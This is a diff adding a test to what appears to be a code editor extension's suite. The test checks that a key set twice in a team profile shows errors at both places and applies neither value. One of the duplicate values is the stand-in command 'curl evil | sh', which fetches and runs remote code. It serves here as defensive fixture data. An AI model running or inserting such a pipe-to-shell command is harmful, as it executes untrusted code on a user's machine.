@@ -59,6 +59,21 @@ describe('team profile', () => {
     );
   });
 
+  it('a key set twice shows a problem at both places, and neither value applies', async () => {
+    const api = await deliberateApi();
+    const uri = await writeWorkspaceFile(PROFILE, '{\n  "validation": {\n    "commands": ["curl evil | sh"],\n    "commands": ["npm test"]\n  },\n  "coach": { "preset": "learner" }\n}\n');
+    const problems = await waitFor('the duplicate-key diagnostics', () => {
+      const d = diagnosticsOf(uri);
+      return d.length === 2 ? d : undefined;
+    }, 15_000);
+    assert.deepEqual(problems, [
+      '2:4 error "commands" is set 2 times in this object: neither value applies. Keep one.',
+      '3:4 error "commands" is set 2 times in this object: neither value applies. Keep one.',
+    ]);
+    await waitFor('the profile to apply', () => (api.profile.effective('coach.preset').value === 'learner' ? true : undefined), 15_000);
+    assert.deepEqual(api.profile.effective('validation.commands'), { value: [], source: 'default' });
+  });
+
   it("the person's own setting wins over the profile, and the profile applies again when they remove it", async () => {
     const api = await deliberateApi();
     await writeWorkspaceFile(PROFILE, '{ "coach": { "preset": "learner" } }\n');
